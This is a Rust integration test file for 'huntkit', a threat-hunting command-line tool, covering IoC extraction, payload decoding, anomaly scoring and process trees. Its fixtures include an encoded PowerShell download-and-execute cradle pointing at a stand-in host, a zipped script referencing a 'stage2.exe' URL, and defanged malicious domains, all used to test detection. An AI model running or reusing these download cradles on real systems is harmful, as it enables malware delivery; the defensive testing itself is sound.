//! The `huntkit` binary end to end: real files, real pipes, exit codes.

use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};

/// Runs the built binary with `args`, `stdin` piped in (empty when none);
/// every topic's tests run it through this.
pub(crate) fn huntkit(args: &[&str], stdin: Option<&[u8]>) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_huntkit"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut pipe = child.stdin.take().unwrap();
    pipe.write_all(stdin.unwrap_or_default()).unwrap();
    drop(pipe);
    child.wait_with_output().unwrap()
}

/// Writes `content` to a fresh directory per call: tests run in parallel, and
/// two of them rewriting one shared file let a reader see it truncated.
fn temp(name: &str, content: &[u8]) -> PathBuf {
    static CALLS: AtomicUsize = AtomicUsize::new(0);
    let call = CALLS.fetch_add(1, Ordering::Relaxed);
    let dir = std::env::temp_dir().join(format!("huntkit-cli-{}-{call}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(name);
    std::fs::write(&path, content).unwrap();
    path
}

fn stdout(o: &Output) -> String {
    String::from_utf8(o.stdout.clone()).unwrap()
}

fn stderr(o: &Output) -> String {
    String::from_utf8(o.stderr.clone()).unwrap()
}

#[test]
fn text_ndjson_has_the_documented_keys() {
    let o = huntkit(
        &["ioc", "-", "--format", "ndjson"],
        Some(b"a hxxp://evil[.]com/x 1.2.3.4\nb 1.2.3.4\n"),
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let out = stdout(&o);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines,
        [
            r#"{"IoCType":"url","Observable":"hxxp://evil[.]com/x","Refanged":"http://evil.com/x","Count":1,"FirstOffset":2}"#,
            r#"{"IoCType":"dns","Observable":"evil[.]com","Refanged":"evil.com","Count":1,"FirstOffset":9}"#,
            r#"{"IoCType":"ipv4","Observable":"1.2.3.4","Refanged":"1.2.3.4","Count":2,"FirstOffset":22}"#,
        ]
    );
}

/// (type, refanged) pairs of `huntkit ioc --input-format text` on `input`.
fn ioc_pairs(input: &str, extra: &[&str]) -> Vec<(String, String)> {
    let mut args = vec!["ioc", "--input-format", "text", "--format", "ndjson"];
    args.extend_from_slice(extra);
    args.push("-");
    let o = huntkit(&args, Some(input.as_bytes()));
    assert!(o.status.success(), "{}", stderr(&o));
    stdout(&o)
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            (
                v["IoCType"].as_str().unwrap().to_string(),
                v["Refanged"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn pairs(p: &[(&str, &str)]) -> Vec<(String, String)> {
    p.iter()
        .map(|(t, v)| (t.to_string(), v.to_string()))
        .collect()
}

/// #11: a rejected candidate no longer hides the IoC inside its span.
#[test]
fn ioc_rejected_candidates_do_not_hide_iocs() {
    assert_eq!(
        ioc_pairs(r"/out:C:\Temp\x.exe", &[]),
        pairs(&[("windows_path", r"C:\Temp\x.exe")])
    );
    let md5 = "d41d8cd98f00b204e9800998ecf8427e";
    assert_eq!(
        ioc_pairs(&format!("file {md5}.exe"), &[]),
        pairs(&[("md5_hash", md5)])
    );
}

/// #11: `--types` wins over `--include-paths`.
#[test]
fn ioc_types_win_over_include_paths() {
    assert_eq!(
        ioc_pairs(
            r"a 1.2.3.4 C:\x\y.exe",
            &["--types", "ipv4", "--include-paths"]
        ),
        pairs(&[("ipv4", "1.2.3.4")])
    );
}

/// #11: file, telnet, ftp, sftp, smb and ldap URLs.
#[test]
fn ioc_url_schemes() {
    assert_eq!(
        ioc_pairs("file://server/share/x.exe telnet://1.2.3.4:23", &[]),
        pairs(&[
            ("url", "file://server/share/x.exe"),
            ("url", "telnet://1.2.3.4:23"),
            ("ipv4", "1.2.3.4"),
        ])
    );
    let got = ioc_pairs(
        "ftp://a.evil.com/x sftp://b.evil.com/y smb://c.evil.com/z ldap://d.evil.com/o=x",
        &["--types", "url"],
    );
    assert_eq!(got.len(), 4, "{got:?}");
}

#[test]
fn csv_table_with_columns() {
    let f = temp(
        "alerts.csv",
        b"host,cmd\nh1,ping 8.8.8.8\nh2,curl http://a.com/x\n",
    );
    let o = huntkit(
        &[
            "ioc",
            f.to_str().unwrap(),
            "--columns",
            "cmd",
            "--format",
            "csv",
        ],
        None,
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        stdout(&o),
        "IoCType,Observable,SourceIndex,Input,Refanged\nipv4,8.8.8.8,0,cmd,8.8.8.8\nurl,http://a.com/x,1,cmd,http://a.com/x\ndns,a.com,1,cmd,a.com\n"
    );
}

#[test]
fn missing_column_names_the_column() {
    let f = temp("missing.csv", b"host,cmd\nh1,x\n");
    let o = huntkit(
        &["ioc", f.to_str().unwrap(), "--columns", "CommandLine"],
        None,
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("column \"CommandLine\" not in table (columns: host, cmd)"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn empty_and_non_utf8_inputs() {
    let o = huntkit(&["ioc", "-", "--format", "ndjson"], Some(b""));
    assert!(o.status.success());
    assert_eq!(stdout(&o), "");
    let o = huntkit(
        &["ioc", "-", "--format", "ndjson"],
        Some(b"\xff\xfe 9.9.9.9 \x80"),
    );
    assert!(o.status.success());
    assert!(stdout(&o).contains("9.9.9.9"));
    let f = temp("empty.csv", b"");
    let o = huntkit(&["ioc", f.to_str().unwrap()], None);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("is empty"), "{}", stderr(&o));
}

#[test]
fn truncated_arrow_is_a_clear_error() {
    let f = temp("bad.arrow", b"\xff\xff\xff\xff\x10\x00\x00\x00trunc");
    let o = huntkit(&["ioc", f.to_str().unwrap()], None);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).starts_with("huntkit: "), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("cannot read arrow input"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn per_line_mode_reports_line_numbers() {
    let o = huntkit(
        &["ioc", "-", "--per-line", "--format", "csv"],
        Some(b"none here\nhost evil.com\n"),
    );
    assert!(o.status.success());
    assert_eq!(
        stdout(&o),
        "IoCType,Observable,SourceIndex,Input,Refanged\ndns,evil.com,1,text,evil.com\n"
    );
}

#[test]
fn usage_errors_exit_2() {
    let o = huntkit(&["ioc", "--format", "xml"], None);
    assert_eq!(o.status.code(), Some(2));
    let o = huntkit(&["ioc", "--pattern", "nonsense"], Some(b""));
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("is not NAME=REGEX"));
}

#[test]
fn decode_annotates_powershell() {
    let ps: Vec<u8> = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    // The core's own decoder is the oracle for the encoding step only.
    let b64 = encode_b64(&ps);
    let line = format!("powershell.exe -nop -w hidden -EncodedCommand {b64}\n");
    let o = huntkit(&["decode", "-", "--annotated"], Some(line.as_bytes()));
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stdout(&o).contains("DownloadString('http://evil.example/a.ps1')"),
        "{}",
        stdout(&o)
    );
    let o = huntkit(
        &["decode", "-", "--format", "ndjson"],
        Some(line.as_bytes()),
    );
    assert!(
        stdout(&o).contains("\"encoding_type\":\"utf16le_base64\""),
        "{}",
        stdout(&o)
    );
}

fn encode_b64(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in bytes.chunks(3) {
        let n = (c[0] as u32) << 16
            | (*c.get(1).unwrap_or(&0) as u32) << 8
            | *c.get(2).unwrap_or(&0) as u32;
        for i in 0..4 {
            out.push(if i <= c.len() {
                A[(n >> (18 - 6 * i) & 63) as usize] as char
            } else {
                '='
            });
        }
    }
    out
}

/// Hourly logon events over 10 days with one burst: counted per bin, scored,
/// and turned into a period and a KQL clause.
fn event_log() -> PathBuf {
    let mut csv = String::from("TimeGenerated,Account\n");
    for hour in 0..240 {
        let n = 3 + (hour % 24) / 6 + if hour == 130 { 60 } else { 0 };
        for i in 0..n {
            let (d, h) = (4 + hour / 24, hour % 24);
            csv.push_str(&format!("2024-03-{d:02}T{h:02}:{:02}:00Z,u{i}\n", i % 60));
        }
    }
    temp("logons.csv", csv.as_bytes())
}

#[test]
fn timeseries_counts_events_and_finds_the_burst() {
    let f = event_log();
    let o = huntkit(
        &["timeseries", f.to_str().unwrap(), "--format", "ndjson"],
        None,
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let rows: Vec<serde_json::Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 240);
    let keys: Vec<&str> = rows[0]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(
        keys,
        [
            "TimeGenerated",
            "Total",
            "residual",
            "trend",
            "seasonal",
            "weights",
            "baseline",
            "score",
            "anomalies"
        ]
    );
    assert_eq!(rows[130]["anomalies"], 1);
    assert_eq!(rows[130]["TimeGenerated"], "2024-03-09T10:00:00Z");

    let o = huntkit(&["timeseries", f.to_str().unwrap(), "--kql"], None);
    assert!(stdout(&o).starts_with(
        "| where TimeGenerated between (datetime(2024-03-09T09:00:00Z) .. datetime(2024-03-09T11:00:00Z))"
    ));
}

#[test]
fn timeseries_errors_name_the_problem() {
    let f = event_log();
    let o = huntkit(
        &["timeseries", f.to_str().unwrap(), "--time-column", "When"],
        None,
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains(r#"column "When" not in table"#),
        "{}",
        stderr(&o)
    );
    let short = temp(
        "short.csv",
        b"TimeGenerated\n2024-03-04T10:00:00Z\n2024-03-04T12:00:00Z\n",
    );
    let o = huntkit(&["timeseries", short.to_str().unwrap()], None);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("fewer than two periods"),
        "{}",
        stderr(&o)
    );
    let o = huntkit(&["timeseries", f.to_str().unwrap(), "--bin", "soon"], None);
    assert!(stderr(&o).contains("not a duration"));
}

#[test]
fn sessions_scores_json_list_lines_like_msticpy() {
    let o = huntkit(
        &["sessions", "-", "--format", "csv"],
        Some(b"[\"Set-User\",\"Set-User\"]\n[\"Set-Mailbox\",\"Set-User\",\"Set-User\"]\n"),
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(out.starts_with(
        "text,rarest_window3_likelihood,rarest_window3,likelihood,geomean_likelihood\n"
    ));
    assert!(out.contains(",0.04115853658536585,"), "{out}");
    assert!(out.contains(",0.018750000000000003,"), "{out}");
}

#[test]
fn sessionize_then_score_events() {
    let f = temp(
        "sessions-events.csv",
        b"user,t,cmd\na,2024-01-01T00:00:00Z,x\na,2024-01-01T00:01:00Z,y\nb,2024-01-01T00:00:00Z,x\na,2024-01-01T01:00:00Z,x\n",
    );
    let path = f.to_str().unwrap();
    let ev = [
        "--user-identifier-cols",
        "user",
        "--time-col",
        "t",
        "--event-col",
        "cmd",
    ];
    let o = huntkit(
        &[&["sessionize", path, "--format", "csv"][..], &ev].concat(),
        None,
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        stdout(&o),
        "user,t_min,t_max,cmd_list,duration,number_events\n\
         a,2024-01-01T00:00:00Z,2024-01-01T00:01:00Z,\"[\"\"x\"\",\"\"y\"\"]\",60000,2\n\
         a,2024-01-01T01:00:00Z,2024-01-01T01:00:00Z,\"[\"\"x\"\"]\",0,1\n\
         b,2024-01-01T00:00:00Z,2024-01-01T00:00:00Z,\"[\"\"x\"\"]\",0,1\n"
    );
    let o = huntkit(
        &[
            &["sessions", path, "--window-length", "2", "--format", "csv"][..],
            &ev,
        ]
        .concat(),
        None,
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stdout(&o).lines().next().unwrap().ends_with(
        "number_events,rarest_window2_likelihood,rarest_window2,likelihood,geomean_likelihood"
    ));
}

#[test]
fn sessions_bad_input_names_column_and_row() {
    let f = temp(
        "sessions-bad.csv",
        b"user,t,cmd\na,2024-01-01T00:00:00Z,x\n",
    );
    let o = huntkit(&["sessions", f.to_str().unwrap()], None);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("column \"session\" not in table"),
        "{}",
        stderr(&o)
    );
    let o = huntkit(
        &["sessions", f.to_str().unwrap(), "--session-column", "cmd"],
        None,
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("cmd"), "{}", stderr(&o));
    let o = huntkit(
        &[
            "sessionize",
            f.to_str().unwrap(),
            "--time-col",
            "user",
            "--event-col",
            "cmd",
        ],
        None,
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("user"), "{}", stderr(&o));
}

/// Two hosts with the same PIDs, 4688 columns (ProcessId is the parent).
const EVENTS_4688: &str = "TimeGenerated,Computer,EventID,NewProcessName,NewProcessId,ProcessId,ParentProcessName,CommandLine,SubjectUserName,SubjectLogonId,TargetLogonId\n\
    2024-03-04T10:00:00Z,WS1,4688,C:\\Windows\\System32\\cmd.exe,0x10,0x4,C:\\Windows\\explorer.exe,cmd,alice,0x3e7,0x0\n\
    2024-03-04T10:00:01Z,WS2,4688,C:\\Windows\\System32\\cmd.exe,0x10,0x4,C:\\Windows\\explorer.exe,cmd,bob,0x3e7,0x0\n\
    2024-03-04T10:00:02Z,WS1,4688,C:\\Windows\\System32\\whoami.exe,0x20,0x10,C:\\Windows\\System32\\cmd.exe,whoami,alice,0x3e7,0x0\n\
    2024-03-04T10:00:03Z,WS1,4624,,,,,,,,\n";

#[test]
fn proctree_summary_and_text() {
    let f = temp("events-4688.csv", EVENTS_4688.as_bytes());
    let o = huntkit(
        &["proctree", f.to_str().unwrap(), "--format", "summary"],
        None,
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        stdout(&o),
        "{\"Processes\":5,\"RootProcesses\":2,\"LeafProcesses\":2,\"BranchProcesses\":1,\"IsolatedProcesses\":0,\"LargestTreeDepth\":3}\n"
    );
    let o = huntkit(
        &[
            "proctree",
            f.to_str().unwrap(),
            "--schema",
            "4688",
            "--format",
            "text",
        ],
        None,
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let text = stdout(&o);
    let heads: Vec<&str> = text.lines().filter(|l| l.contains("PID")).collect();
    assert_eq!(
        heads,
        [
            "+ C:\\Windows\\explorer.exe  PID 0x4  [inferred]",
            "   +-- C:\\Windows\\System32\\cmd.exe  PID 0x10  2024-03-04T10:00:00Z",
            "      +-- C:\\Windows\\System32\\whoami.exe  PID 0x20  2024-03-04T10:00:02Z",
            "+ C:\\Windows\\explorer.exe  PID 0x4  [inferred]",
            "   +-- C:\\Windows\\System32\\cmd.exe  PID 0x10  2024-03-04T10:00:01Z",
        ]
    );
}

#[test]
fn proctree_frame_and_errors() {
    let f = temp("events-4688b.csv", EVENTS_4688.as_bytes());
    let o = huntkit(
        &["proctree", f.to_str().unwrap(), "--format", "ndjson"],
        None,
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let rows: Vec<serde_json::Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let parents: Vec<_> = rows.iter().map(|r| r["parent_index"].clone()).collect();
    assert_eq!(
        parents,
        [
            serde_json::json!(null),
            0.into(),
            1.into(),
            serde_json::Value::Null,
            3.into()
        ]
    );
    assert_eq!(rows[2]["Computer"], "WS1");
    assert_eq!(rows[2]["path"], "0/1/2");
    assert_eq!(rows[0]["IsInferred"], true);

    let o = huntkit(
        &["proctree", f.to_str().unwrap(), "--schema", "sysmon"],
        None,
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("column \"UtcTime\" not in table"),
        "{}",
        stderr(&o)
    );
    let bad = temp(
        "events-bad.csv",
        b"TimeGenerated,NewProcessName,NewProcessId,ProcessId\nlater,a,1,2\n",
    );
    let o = huntkit(&["proctree", bad.to_str().unwrap()], None);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("row 0 of column \"TimeGenerated\": \"later\" is not a time"),
        "{}",
        stderr(&o)
    );
}

/// Issue #12: the MDE fixtures (`tests/golden/proctree_*_issue12.csv`, one
/// per export shape) through the binary: the schema inferred from the
/// columns, every schema column found (no "not used" warning), and the
/// expected summary, tree and per-node parents of
/// `tests/golden/proctree_issue12.json`: one inferred node per missing
/// process, one root per real root.
#[test]
fn proctree_issue_12_mde_exports() {
    let golden = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/golden/");
    let all: serde_json::Value = serde_json::from_str(include_str!(
        "../../../../tests/golden/proctree_issue12.json"
    ))
    .unwrap();
    for schema in ["mde_internal", "mde"] {
        let case = &all[schema];
        let file = format!("{golden}{}", case["file"].as_str().unwrap());
        let o = huntkit(&["proctree", &file, "--format", "summary"], None);
        assert!(o.status.success(), "{schema}: {}", stderr(&o));
        assert_eq!(stderr(&o), "", "{schema}");
        let summary: serde_json::Value = serde_json::from_str(stdout(&o).trim()).unwrap();
        assert_eq!(summary, case["summary"], "{schema}");

        let o = huntkit(
            &["proctree", &file, "--schema", schema, "--format", "text"],
            None,
        );
        assert!(o.status.success(), "{schema}: {}", stderr(&o));
        let text = stdout(&o);
        let heads: Vec<&str> = text.lines().filter(|l| l.contains("PID")).collect();
        let expected: Vec<&str> = case["tree"]
            .as_array()
            .unwrap()
            .iter()
            .map(|l| l.as_str().unwrap())
            .collect();
        assert_eq!(heads, expected, "{schema}");

        let o = huntkit(&["proctree", &file, "--format", "ndjson"], None);
        assert!(o.status.success(), "{schema}: {}", stderr(&o));
        let rows: Vec<serde_json::Value> = stdout(&o)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        let parents: Vec<serde_json::Value> = rows
            .iter()
            .map(|r| serde_json::json!([r["proc_key"], r["parent_key"]]))
            .collect();
        assert_eq!(
            serde_json::Value::Array(parents),
            case["parents"],
            "{schema}"
        );
        let inferred = rows.iter().filter(|r| r["IsInferred"] == true).count();
        assert_eq!(serde_json::json!(inferred), case["inferred"], "{schema}");
    }
}

/// A zip (one deflated `run.ps1`), base64 as Python's `base64.b64encode` wrote it.
const ZIP_B64: &str = "UEsDBBQAAAAIAAAAZFghUoBkXgAAAGwAAAAHAAAAcnVuLnBzMfPMK8vPTtUNT00KSi0sTS0uUdANLcpUyCgpKbDS1zcyMNYz0DM0NNYz1y8uSUxPNdJLrUhV0PUvLXHLzElVUEnNK7MKcfUNiCkGSVgrBJckFpXoBhTlJ6cWF6NLAwBQSwECFAMUAAAACAAAAGRYIVKAZF4AAABsAAAABwAAAAAAAAAAAAAAgAEAAAAAcnVuLnBzMVBLBQYAAAAAAQABADUAAACDAAAAAAA=";

fn ndjson_rows(o: &Output) -> Vec<serde_json::Value> {
    stdout(o)
        .split('\n')
        .filter(|l| !l.is_empty())
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// Issue #11 (bug 5): base64 wrapped at 76 characters (MIME, CRLF) is one
/// payload: the zip unpacks, no fragment per line.
#[test]
fn issue_11_decode_wrapped_base64_zip() {
    let lines: Vec<&str> = ZIP_B64
        .as_bytes()
        .chunks(76)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    let mail = format!(
        "Content-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\r\n--boundary--\r\n",
        lines.join("\r\n")
    );
    let f = temp("wrapped.eml", mail.as_bytes());
    let o = huntkit(&["decode", f.to_str().unwrap(), "--format", "ndjson"], None);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(!stderr(&o).contains("cannot unpack"), "{}", stderr(&o));
    let rows = ndjson_rows(&o);
    assert_eq!(rows.len(), 2, "{}", stdout(&o));
    assert_eq!(rows[0]["file_type"], "zip");
    assert_eq!(rows[0]["original_string"], lines.join("\r\n"));
    assert_eq!(rows[1]["file_name"], "run.ps1");
    assert!(rows[1]["decoded_string"]
        .as_str()
        .unwrap()
        .contains("http://203.0.113.7/stage2.exe"));
}

/// Issue #11 (bug 6): base64 of random 48-byte blobs comes back as binary
/// base64, one row each, never as UTF-16 text or dropped.
#[test]
fn issue_11_decode_random_blobs_are_binary() {
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    let mut text = String::new();
    for _ in 0..40 {
        let blob: Vec<u8> = (0..48)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                (x >> 32) as u8
            })
            .collect();
        text.push_str(&format!("blob {}\n", encode_b64(&blob)));
    }
    let o = huntkit(
        &["decode", "-", "--format", "ndjson"],
        Some(text.as_bytes()),
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let rows = ndjson_rows(&o);
    assert_eq!(rows.len(), 40, "{}", stdout(&o));
    for row in rows {
        assert_eq!(row["encoding_type"], "base64", "{row}");
        assert_eq!(row["decoded_string"], "", "{row}");
        assert_eq!(row["input_bytes"], 48);
    }
}

/// Issue #11 (bug 4): a JSON array in a `.ndjson` file names the flag that
/// reads it, instead of "row 0 is not an object".
#[test]
fn issue_11_json_array_in_ndjson_file() {
    for content in [
        &b"[{\"cmd\":\"ping 9.9.9.9\"}]\n"[..],
        b"[\n  {\"cmd\": \"ping 9.9.9.9\"}\n]\n",
    ] {
        let f = temp("rows.ndjson", content);
        let o = huntkit(&["ioc", f.to_str().unwrap()], None);
        assert_eq!(o.status.code(), Some(1));
        assert!(
            stderr(&o).ends_with(
                "rows.ndjson is a JSON array, not one JSON object per line: use --input-format json\n"
            ),
            "{}",
            stderr(&o)
        );
        let o = huntkit(
            &["ioc", f.to_str().unwrap(), "--input-format", "json"],
            None,
        );
        assert!(o.status.success(), "{}", stderr(&o));
        assert!(stdout(&o).contains("9.9.9.9"));
    }
}

/// Issue #11 (bug 4): a binary file read as a table says what it looks
/// like and echoes none of its bytes.
#[test]
fn issue_11_binary_input_is_described_not_echoed() {
    let pickle =
        b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00}\x94(\x8c\x03cmd\x94\x8c\x06whoami\x94u.";
    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8".to_vec();
    exe.extend((0..=255u8).rev());
    let pkl = temp("frame.pkl", pickle);
    let exe = temp("tool.exe", &exe);
    for (args, what) in [
        (
            vec!["ioc", pkl.to_str().unwrap(), "--columns", "cmd"],
            "looks like a Python pickle, not csv text; save the DataFrame with to_csv or to_feather",
        ),
        (
            vec!["proctree", pkl.to_str().unwrap(), "--input-format", "csv"],
            "looks like a Python pickle",
        ),
        (
            vec!["decode", exe.to_str().unwrap(), "--input-format", "json"],
            "looks like a Windows executable (MZ), not json text",
        ),
    ] {
        let o = huntkit(&args, None);
        assert_eq!(o.status.code(), Some(1), "{args:?}");
        let err = stderr(&o);
        assert!(err.contains(what), "{err}");
        assert!(
            err.trim_end()
                .chars()
                .all(|c| !c.is_control() && c != '\u{fffd}'),
            "{err:?}"
        );
    }
    // As text, a binary file is scanned with a warning, not refused.
    let o = huntkit(&["ioc", exe.to_str().unwrap()], None);
    assert!(o.status.success());
    assert!(stderr(&o).contains("tool.exe looks like a Windows executable (MZ), not text"));
}

/// Issue #11 (bug 4): Windows-1252 input read as UTF-8 warns once with the
/// count of replaced bytes; `--encoding cp1252` reads it right.
#[test]
fn issue_11_windows_1252_input() {
    // "café – naïve “quoted” 9.9.9.9" in Windows-1252: 5 bytes that are not UTF-8.
    let line: &[u8] = b"caf\xe9 \x96 na\xefve \x93quoted\x94 9.9.9.9\n";
    let text = line.repeat(3);
    let warning = "15 bytes were not valid UTF-8 and were replaced; if this is Windows-1252 use --encoding cp1252";
    for args in [
        &["ioc", "-"][..],
        &["ioc", "-", "--per-line"],
        &["decode", "-", "--annotated"],
    ] {
        let o = huntkit(args, Some(&text));
        assert!(o.status.success(), "{}", stderr(&o));
        assert_eq!(stderr(&o).matches(warning).count(), 1, "{}", stderr(&o));
        assert!(stdout(&o).contains("9.9.9.9") || args[0] == "decode");
    }
    let o = huntkit(
        &["decode", "-", "--annotated", "--encoding", "cp1252"],
        Some(&text),
    );
    assert!(o.status.success());
    assert_eq!(stderr(&o), "");
    assert_eq!(stdout(&o), "café – naïve “quoted” 9.9.9.9\n".repeat(3));
    let csv = [&b"host,cmd\n"[..], b"h1,", line].concat();
    let f = temp("ansi.csv", &csv);
    let o = huntkit(&["ioc", f.to_str().unwrap(), "--format", "csv"], None);
    assert!(o.status.success());
    assert!(
        stderr(&o).contains("ansi.csv: 5 bytes were not valid UTF-8"),
        "{}",
        stderr(&o)
    );
    let o = huntkit(&["ioc", f.to_str().unwrap(), "--encoding", "cp1252"], None);
    assert!(o.status.success());
    assert_eq!(stderr(&o), "");
    // Streamed UTF-8 whose characters straddle read chunks is not warned about.
    let utf8 = format!("a{}", "é".repeat(600_000));
    let f = temp("straddle.txt", utf8.as_bytes());
    let o = huntkit(&["ioc", f.to_str().unwrap()], None);
    assert!(o.status.success());
    assert_eq!(stderr(&o), "");
}
